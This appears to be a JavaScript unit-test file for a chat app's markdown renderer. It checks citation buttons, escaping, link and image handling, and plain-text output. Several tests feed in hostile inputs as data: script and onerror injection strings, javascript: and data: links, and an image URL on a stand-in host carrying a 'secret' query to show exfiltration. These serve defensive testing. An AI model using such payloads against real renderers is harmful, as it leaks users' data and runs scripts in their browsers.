import assert from 'node:assert/strict';
import { test } from 'node:test';
import { plainText, renderBlocks } from '../src/chat/markdown.js';

const references = [{ n: 1, title: 'Manual' }, { n: 2, title: 'A "B" <c>' }];
const label = ({ n, title }) => `Fonte ${n}: ${title}`;
const render = (markdown) => renderBlocks(markdown, references, label).map((block) => block.html).join('');
const numbers = (html) => [...html.matchAll(/data-citation="(\d+)"/g)].map((match) => Number(match[1]));

test('citations become buttons with the name of their source', () => {
  const html = render('Todos os dias [1].');
  assert.deepEqual(numbers(html), [1]);
  assert.match(html, /<button type="button" class="citation" data-testid="citation"/);
  assert.match(html, /aria-label="Fonte 1: Manual"/);
});

test('a name cannot break out of its attribute', () => {
  const html = render('x [2]');
  assert.match(html, /aria-label="Fonte 2: A &#34;B&#34; &#60;c&#62;"/);
});

test('several citations, in one pair of brackets or in many', () => {
  assert.deepEqual(numbers(render('a [1, 2] b [1][2] c')), [1, 2, 1, 2]);
});

test('a number without a source stays text', () => {
  const html = render('Veja [9] e [1, 9].');
  assert.deepEqual(numbers(html), []);
  assert.match(html, /\[9\] e \[1, 9\]/);
});

test('brackets in code are not citations', () => {
  assert.deepEqual(numbers(render('`a[1]` e\n\n```\nb[1]\n```')), []);
});

test('a link is a link, not a citation', () => {
  const html = render('[1](https://example.org/a)');
  assert.deepEqual(numbers(html), []);
  assert.match(html, /<a href="https:\/\/example.org\/a" target="_blank" rel="noopener noreferrer nofollow">1<\/a>/);
});

test('citations work in lists, tables, headings and emphasis', () => {
  assert.deepEqual(numbers(render('- a [1]\n- b [2]\n\n| x |\n|---|\n| y [1] |\n\n# t [2]\n\n**z [1]**')), [1, 2, 1, 2, 1]);
});

test('a citation stays with the word before it and the stop after it', () => {
  assert.match(render('todos os dias [1].'), /<span class="cited">dias<button[^]*<\/button>\.<\/span>/);
  assert.match(render('um [1] dois'), /<\/button><\/span> dois/);
});

test('HTML in an answer is shown, not obeyed', () => {
  const html = render('a <script>alert(1)</script> <img src=x onerror=alert(1)>\n\n<iframe src="x"></iframe>');
  assert.doesNotMatch(html, /<(script|img|iframe)/);
  assert.match(html, /&#60;script&#62;/);
});

test('images are not fetched: their address may carry words away', () => {
  const html = render('![p](https://evil.example/?q=secret)');
  assert.doesNotMatch(html, /<img/);
  assert.match(html, /<a href=/);
});

test('links lead to the web or to mail, nowhere else', () => {
  for (const href of ['javascript:alert(1)', 'data:text/html,x', 'vbscript:x', '/v1/auth/logout']) {
    assert.doesNotMatch(render(`[x](${href})`), /<a /, href);
  }
});

test('blocks that are done stay the same while the last one grows', () => {
  const before = renderBlocks('um [1]\n\ndois', references, label);
  const after = renderBlocks('um [1]\n\ndois três', references, label);
  assert.deepEqual(after[0], before[0]);
  assert.notEqual(after[1].html, before[1].html);
});

test('an unfinished code block is a code block already', () => {
  assert.match(render('```bash\n./mordomo backup'), /<pre tabindex="0" data-language="bash"><code>.\/mordomo backup<\/code><\/pre>/);
});

test('headings of an answer stand below those of the page', () => {
  assert.match(render('# a'), /^<h3>/);
  assert.match(render('###### a'), /^<h6>/);
});

test('read aloud, an answer has no marks', () => {
  assert.equal(plainText('Execute `./mordomo backup` **hoje** [1, 2].'), 'Execute ./mordomo backup hoje.');
  assert.equal(plainText('Veja [o manual](https://x.example)'), 'Veja o manual');
});
